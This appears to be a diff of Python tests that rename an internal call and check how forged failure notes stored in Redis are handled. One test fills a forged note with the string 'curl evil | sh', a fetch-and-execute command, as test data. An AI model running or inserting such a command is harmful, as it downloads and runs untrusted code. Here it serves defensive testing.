@@ -359,7 +359,7 @@ def test_a_forged_note_stops_one_question_of_one_who_waits(server, sandbox):
     store = RedisStore(server.client())
     auth, other = client_of(sandbox, store), RedisStore(server.client())
     with other.lock(0):
-        question = auth.source._reading.question()
+        question = auth.source._wallet.snapshot()
         note = note_of(auth, message="curl evil | sh", description="curl evil | sh")
         server.client().set(FAILURE, json.dumps(note))
 
@@ -376,7 +376,7 @@ def test_a_forged_note_stops_one_question_of_one_who_waits(server, sandbox):
 def test_the_note_of_another_owner_is_not_told(server, sandbox, store):
     """As before: it may well succeed where another's failed."""
     auth = client_of(sandbox, store)
-    question = auth.source._reading.question()
+    question = auth.source._wallet.snapshot()
     note = note_of(auth)
     note["owner"] = Owner("another", None, None).__getstate__()
     store.record_failure(json.dumps(note))
